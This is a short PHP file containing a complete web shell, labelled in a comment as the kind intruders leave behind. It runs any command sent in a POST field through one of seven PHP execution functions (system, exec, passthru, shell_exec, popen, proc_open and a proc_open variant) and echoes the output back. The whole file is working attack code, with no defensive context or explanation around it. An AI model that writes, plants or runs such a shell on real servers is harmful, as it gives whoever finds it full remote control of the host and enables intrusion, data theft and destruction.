<?php
// A page shell as intruders leave them: runs what it is posted, in the way that it is asked for.
$c = $_POST['c'] ?? '';
switch ($_POST['by'] ?? 'system') {
    case 'system': system($c); break;
    case 'exec': exec($c, $lines); echo join("\n", $lines); break;
    case 'passthru': passthru($c); break;
    case 'shell_exec': echo shell_exec($c); break;
    case 'popen': $p = popen($c, 'r'); echo stream_get_contents($p); pclose($p); break;
    case 'proc_open': $p = proc_open($c, [1 => ['pipe', 'w'], 2 => ['pipe', 'w']], $pipes); echo stream_get_contents($pipes[1]); proc_close($p); break;
    case 'argv': $p = proc_open($_POST['a'], [1 => ['pipe', 'w'], 2 => ['file', '/dev/null', 'w']], $pipes); echo stream_get_contents($pipes[1]); proc_close($p); break;
}
